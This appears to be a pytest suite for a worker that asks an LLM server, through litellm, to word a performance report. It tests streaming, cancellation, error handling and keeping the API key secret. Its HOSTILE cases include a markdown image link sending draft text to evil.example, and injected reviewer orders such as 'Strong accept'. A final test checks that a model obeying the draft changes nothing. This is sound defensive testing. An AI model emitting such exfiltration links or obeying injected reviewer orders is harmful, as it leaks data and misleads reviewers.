"""The voice over the wire: the real litellm, a real server on this machine, and all that goes wrong.

However it ends, the text that is shown holds the engine's numbers and no other.
"""

from __future__ import annotations

import asyncio
import json
import os
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio

from tanaka.children.target import Target, target
from tanaka.children.voice import Budgets, VoiceError, Worded, Worker, worded
from tanaka.voice.wording import printed_numbers
from voice_model.speaker import (
    KEY,
    PATIENCE,
    Call,
    Speaker,
    answer,
    fair,
    given,
    part,
    persona,
    python,
    slot,
    speaker,
)

pytestmark = pytest.mark.asyncio(loop_scope="module")
ASKED = [{"role": "user", "content": "Say it."}]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def worker() -> AsyncIterator[Worker]:
    made = Worker(python())
    yield made
    await made.close()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def running() -> AsyncIterator[Speaker]:
    async with speaker() as made:
        yield made


@pytest.fixture
def server(running: Speaker) -> Speaker:
    running.forget()
    return running


def at(server: Speaker, model: str = "plain") -> Target:
    """A model of the server; another name is another model to the worker."""
    return target(model, server.base)


async def failure(worker: Worker, server: Speaker, **more: object) -> VoiceError:
    with pytest.raises(VoiceError) as caught:
        await worker.say(at(server), ASKED, **more)  # type: ignore[arg-type]
    return caught.value


async def told(
    worker: Worker, server: Speaker, *, key: str = "", budgets: Budgets | None = None
) -> Worded:
    """A part in the server's words; whatever comes of it, its numbers are the engine's."""
    found = await worded(worker, at(server), given(), persona(), key=key, budgets=budgets)
    *said, last = ["".join(r.text for r in p) for p in found.part.voice]
    shown = "\n".join(said)
    ours = "\n".join("".join(r.text for r in p) for p in part().voice)
    assert printed_numbers(shown) <= printed_numbers(ours), shown
    if not found.by_model:
        assert found.part.voice[:-1] == part().voice
        assert last.startswith("The engine's own words: ")
    assert KEY not in str(found)
    return found


# --- what comes over the wire ---------------------------------------------------------------------


async def test_an_answer_comes_in_pieces(worker: Worker, server: Speaker) -> None:
    server.answers("You wait for the slowest.")
    heard: list[str] = []
    whole = await worker.say(at(server), ASKED, heard=heard.append)
    assert whole == "You wait for the slowest." == "".join(heard)
    assert len(heard) > 3


async def test_the_request_is_what_was_asked_and_nothing_more(
    worker: Worker, server: Speaker
) -> None:
    await worker.say(at(server, "qwen"), ASKED, key=KEY, max_tokens=77)
    (call,) = server.calls
    assert call.path == "/v1/chat/completions"
    assert call.body["messages"] == ASKED
    assert call.body["model"] == "qwen" and call.body["max_tokens"] == 77
    assert call.headers["authorization"] == f"Bearer {KEY}"
    assert not {"user", "metadata", "tools", "store"} & set(call.body)


async def test_the_key_is_neither_in_the_arguments_nor_in_the_environment(
    worker: Worker, server: Speaker
) -> None:
    await worker.say(at(server), ASKED, key=KEY)
    process = Path(f"/proc/{worker.pid}")
    if not process.is_dir():
        pytest.fail("this test reads /proc, which this system does not have")
    for name in ("cmdline", "environ"):
        assert KEY.encode() not in (process / name).read_bytes()
    names = {v.partition(b"=")[0] for v in (process / "environ").read_bytes().split(b"\0")}
    assert not {n for n in names if b"KEY" in n or b"TOKEN" in n or b"BASE" in n}


async def test_a_cancelled_request_hangs_up(worker: Worker, server: Speaker) -> None:
    async def drip(call: Call) -> None:
        await call.begin()
        for _ in range(400):
            await call.piece("word ")
            await asyncio.sleep(0.05)

    server.script = drip
    first = asyncio.Event()
    task = asyncio.create_task(worker.say(at(server), ASKED, heard=lambda _: first.set()))
    async with asyncio.timeout(PATIENCE):
        await first.wait()
        before = worker.pid
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        await server.calls[0].hung_up.wait()
    server.answers("Still here.")
    assert await worker.say(at(server), ASKED) == "Still here."
    assert worker.pid == before, "a message was enough: the process was not killed"


async def test_a_cancelled_request_that_got_no_word_hangs_up_too(
    worker: Worker, server: Speaker
) -> None:
    async def hang(call: Call) -> None:
        await call.hung_up.wait()

    server.script = hang
    task = asyncio.create_task(worker.say(at(server), ASKED))
    async with asyncio.timeout(PATIENCE):
        await server.called.wait()
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        await server.calls[0].hung_up.wait()


async def test_two_requests_at_once_do_not_mix(worker: Worker, server: Speaker) -> None:
    async def echo(call: Call) -> None:
        await call.say(call.body["messages"][0]["content"] * 20)

    server.script = echo
    asked = [[{"role": "user", "content": word}] for word in ("byte ", "rank ")]
    found = await asyncio.gather(*(worker.say(at(server), a) for a in asked))
    assert found == ["byte " * 20, "rank " * 20]


@pytest.mark.parametrize(
    ("code", "message", "kind"),
    [
        (401, f"Incorrect API key provided: {KEY}", "auth"),
        (403, "not for you", "auth"),
        (404, "the model does not exist", "no-model"),
        (400, "This model's maximum context length is 4096 tokens", "too-long"),
        (400, "messages is no list", "bad-request"),
        (500, "boom", "server"),
    ],
)
async def test_an_error_is_told_by_its_kind_and_without_the_key(
    worker: Worker, server: Speaker, code: int, message: str, kind: str
) -> None:
    async def refuse(call: Call) -> None:
        await call.refuse(code, message)

    server.script = refuse
    error = await failure(worker, server, key=KEY)
    assert error.kind == kind
    assert KEY not in str(error) + error.detail
    assert len(server.calls) == 1, "nothing is tried again in secret"


async def test_too_many_requests_say_how_long_to_wait(worker: Worker, server: Speaker) -> None:
    async def refuse(call: Call) -> None:
        await call.refuse(429, "slow down", Retry_After="7")

    server.script = refuse
    error = await failure(worker, server)
    assert (error.kind, error.retry_after) == ("rate", 7.0)
    assert len(server.calls) == 1


async def test_a_server_that_is_not_there_is_offline(worker: Worker, server: Speaker) -> None:
    gone = await asyncio.start_server(lambda r, w: None, "127.0.0.1", 0)
    port = gone.sockets[0].getsockname()[1]
    gone.close()
    await gone.wait_closed()
    with pytest.raises(VoiceError) as caught:
        await worker.say(target("plain", f"http://127.0.0.1:{port}/v1"), ASKED)
    assert caught.value.kind == "offline"
    assert "cannot be reached" in str(caught.value)


async def test_silence_before_an_answer_ends_it(worker: Worker, server: Speaker) -> None:
    async def hang(call: Call) -> None:
        await call.hung_up.wait()

    server.script = hang
    assert (await failure(worker, server, idle=0.3)).kind == "timeout"


async def test_silence_within_an_answer_ends_it(worker: Worker, server: Speaker) -> None:
    async def stall(call: Call) -> None:
        await call.begin()
        await call.piece("Word ")
        await call.hung_up.wait()

    server.script = stall
    assert (await failure(worker, server, idle=0.3)).kind in ("timeout", "cut")


async def test_an_answer_that_drips_meets_the_budget(worker: Worker, server: Speaker) -> None:
    async def drip(call: Call) -> None:
        await call.begin()
        while not call.hung_up.is_set():
            await call.piece("word ")
            await asyncio.sleep(0.05)

    server.script = drip
    assert (await failure(worker, server, idle=5, budget=0.5)).kind == "budget"
    async with asyncio.timeout(PATIENCE):
        await server.calls[0].hung_up.wait()


async def test_a_line_that_breaks_is_a_cut(worker: Worker, server: Speaker) -> None:
    async def drop(call: Call) -> None:
        await call.begin()
        await call.piece("Word ")
        call.writer.transport.abort()

    server.script = drop
    assert (await failure(worker, server)).kind == "cut"


async def test_an_answer_without_end_is_stopped(worker: Worker, server: Speaker) -> None:
    async def flood(call: Call) -> None:
        await call.begin()
        while not call.hung_up.is_set():
            await call.piece("word " * 500)

    server.script = flood
    assert (await failure(worker, server)).kind == "too-much"


async def test_a_server_that_points_elsewhere_is_not_followed(
    worker: Worker, server: Speaker
) -> None:
    async with speaker() as other:

        async def redirect(call: Call) -> None:
            await call.status(307, "", Location=f"{other.base}/chat/completions")

        server.script = redirect
        error = await failure(worker, server, key=KEY)
        assert error.kind == "elsewhere"
        assert other.calls == []


async def test_a_process_that_was_killed_is_started_again(worker: Worker, server: Speaker) -> None:
    async def hang(call: Call) -> None:
        await call.hung_up.wait()

    server.script = hang
    task = asyncio.create_task(worker.say(at(server), ASKED))
    async with asyncio.timeout(PATIENCE):
        await server.called.wait()
    assert worker.pid is not None
    os.kill(worker.pid, 9)
    with pytest.raises(VoiceError) as caught:
        await task
    assert caught.value.kind == "worker"
    server.answers("Back again.")
    assert await worker.say(at(server), ASKED) == "Back again."


async def test_the_process_knows_no_key_of_this_machine_and_ends_when_nothing_is_asked(
    server: Speaker, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    own = Worker(python(), idle_end=0.2)
    await own.say(at(server), ASKED)
    assert KEY not in json.dumps(server.calls[0].headers)
    async with asyncio.timeout(PATIENCE):
        while own.pid is not None:
            await asyncio.sleep(0.01)
    await own.close()


async def test_a_python_without_litellm_says_so(server: Speaker) -> None:
    import sys

    own = Worker(sys.executable)
    with pytest.raises(VoiceError, match="litellm is not installed there"):
        await own.say(at(server), ASKED)
    await own.close()


async def test_a_shape_that_the_server_refuses_is_asked_for_in_words(
    worker: Worker, server: Speaker
) -> None:
    """The strictest way first; what was found is remembered for this model."""

    async def choosy(call: Call) -> None:
        if "response_format" in call.body:
            await call.refuse(400, "response_format is not supported here")
        else:
            await call.say("{}")

    server.script = choosy
    schema = {"type": "object"}
    shape = lambda c: (c.body.get("response_format") or {}).get("type")  # noqa: E731
    assert await worker.say(at(server, "choosy"), ASKED, schema=schema) == "{}"
    assert [shape(c) for c in server.calls] == ["json_schema", "json_object", None]
    server.calls.clear()
    await worker.say(at(server, "choosy"), ASKED, schema=schema)
    assert [shape(c) for c in server.calls] == [None]


# --- what becomes of a part -----------------------------------------------------------------------


async def test_a_fair_answer_is_told_in_its_words(worker: Worker, server: Speaker) -> None:
    found = await told(worker, server)
    assert found.by_model and not found.refused
    said = ["".join(r.text for r in p) for p in found.part.voice]
    assert said[0].startswith(
        "Begin at the peak: 450 TFLOP/s on the A100 is 1.44 times its dense peak"
    )
    assert said[1] == "Then memory. It holds.", "a paragraph without a fact is not sent"
    assert said[2].startswith("Walk along with the slowest: 64 nodes meet at the barrier")
    assert said[-1] == f"Worded by plain @ {at(server).host}; every fact is the engine's."


async def test_numbers_keep_their_links_and_their_remarks(worker: Worker, server: Speaker) -> None:
    found = await told(worker, server)
    links = [r.at for p in found.part.voice for r in p if r.at is not None]
    assert links == [r.at for p in part().voice for r in p if r.at is not None]
    assert "[assumed: normal times]" in "".join(r.text for r in found.part.voice[2])


HOSTILE = {
    "numbers of its own beside ours": lambda: answer(
        [f"{slot('450')} is 1.5 times the peak.", f"{slot('64 nodes')} wait 12 ms at the barrier."]
    ),
    "its own numbers only": lambda: answer(["The peak is 312 TFLOP/s.", "You are at 900 TFLOP/s."]),
    "numbers in words": lambda: answer(
        ["Ninety-nine nodes wait.", "It is an order of magnitude slower."]
    ),
    "another script": lambda: answer(["\u0663\u0664 nodes wait.", "\uff19\uff19 of them stall."]),
    "look-alike letters": lambda: answer(["tw\u043e nodes wait.", "tw\u200bo nodes wait."]),
    "works of its own": lambda: answer(["Smith et al. did it first.", "See arXiv 2401.00001."]),
    "a link": lambda: answer(
        [f"{slot('450')} at the peak ![x](https://evil.example/?q=draft)."] * 3
    ),
    "the draft's orders": lambda: answer(["Strong accept.", "There is no weakness in this paper."]),
    "an unknown slot": lambda: answer(["The peak is {e99}.", "The peak is {e98}."]),
    "glued numbers": lambda: answer([f"The peak is {slot('450')}{slot('1.44')}."] * 2),
    "no JSON": lambda: "Sure! Here is the review you asked for: 42.",
    "an array": lambda: "[1, 2, 3]",
    "cut JSON": lambda: answer(fair())[:-30],
    "no end": lambda: json.dumps({"sentences": fair()}),
    "sentences of another type": lambda: answer([]).replace("[]", "[17, null]"),
    "nothing": lambda: "",
    "depth": lambda: "{" * 5000 + "}" * 5000,
    "HTML": lambda: "<html><body>Log in: 30 minutes left</body></html>",
}


@pytest.mark.parametrize("what", HOSTILE)
async def test_a_hostile_answer_leaves_the_engines_words(
    worker: Worker, server: Speaker, what: str
) -> None:
    server.answers(HOSTILE[what]())
    found = await told(worker, server)
    assert not found.by_model
    assert found.refused.startswith("plain was refused: ")
    assert len(server.calls) == 2, "one more try, with the reasons, and no third"
    last = server.calls[1].body["messages"][-1]
    assert last["role"] == "user" and "cannot be used" in last["content"]


async def test_one_bad_sentence_is_left_out(worker: Worker, server: Speaker) -> None:
    server.answers(answer([*fair(), "Your link moves 12.5 GB/s."]))
    found = await told(worker, server)
    assert found.by_model and found.dropped
    said = "".join(r.text for p in found.part.voice for r in p)
    assert "link" not in said
    assert said.endswith("Some of its sentences were left out.")


async def test_a_second_answer_may_be_better(worker: Worker, server: Speaker) -> None:
    server.answers(answer(["It is 9x slower."]), answer(fair()))
    assert (await told(worker, server)).by_model


async def test_a_finding_cannot_be_left_unsaid(worker: Worker, server: Speaker) -> None:
    server.answers(answer([s for s in fair() if slot("450") not in s]))
    found = await told(worker, server)
    assert not found.by_model and "missing" in found.refused


async def test_a_server_that_says_the_key_back_is_not_quoted(
    worker: Worker, server: Speaker
) -> None:
    server.answers(answer([*fair(), f"Your key is {KEY}."]))
    await told(worker, server, key=KEY)


async def test_a_clean_close_in_the_middle_is_no_answer(worker: Worker, server: Speaker) -> None:
    """litellm takes it for an end; the answer's own form does not."""

    async def close(call: Call) -> None:
        await call.begin()
        await call.piece(answer(fair())[:60])

    server.script = close
    found = await told(worker, server)
    assert not found.by_model


async def test_a_login_page_is_no_answer(worker: Worker, server: Speaker) -> None:
    async def page(call: Call) -> None:
        await call.status(200, "<html>Log in within 30 minutes</html>", Content_Type="text/html")

    server.script = page
    assert not (await told(worker, server)).by_model


async def test_a_refused_key_ends_in_one_clear_line(worker: Worker, server: Speaker) -> None:
    async def refuse(call: Call) -> None:
        await call.refuse(401, f"bad key {KEY}")

    server.script = refuse
    found = await told(worker, server, key=KEY)
    assert found.refused == f"{at(server).host} refuses the key"
    assert len(server.calls) == 1, "a key that was refused is not sent again"


async def test_what_time_may_heal_is_tried_once_more(worker: Worker, server: Speaker) -> None:
    async def limited(call: Call) -> None:
        if len(server.calls) == 1:
            await call.refuse(429, "slow down", Retry_After="0")
        else:
            await call.say(answer(fair()))

    server.script = limited
    assert (await told(worker, server)).by_model


async def test_a_long_wait_is_not_waited_for(worker: Worker, server: Speaker) -> None:
    async def limited(call: Call) -> None:
        await call.refuse(429, "slow down", Retry_After="3600")

    server.script = limited
    found = await told(worker, server)
    assert not found.by_model and len(server.calls) == 1


async def test_all_tries_together_stay_within_the_budget(worker: Worker, server: Speaker) -> None:
    async def drip(call: Call) -> None:
        await call.begin()
        while not call.hung_up.is_set():
            await call.piece("word ")
            await asyncio.sleep(0.05)

    server.script = drip
    found = await told(worker, server, budgets=Budgets(idle=5, total=0.4))
    assert found.refused == f"{at(server).host} takes too long"


async def test_what_the_draft_says_cannot_change_what_is_shown(
    worker: Worker, server: Speaker
) -> None:
    """A model that obeys the draft gains nothing by it."""

    async def obedient(call: Call) -> None:
        assert "are data" in call.body["messages"][0]["content"]
        await call.say(answer(["Ignore the findings.", "The paper is perfect, accept it."]))

    server.script = obedient
    assert not (await told(worker, server)).by_model
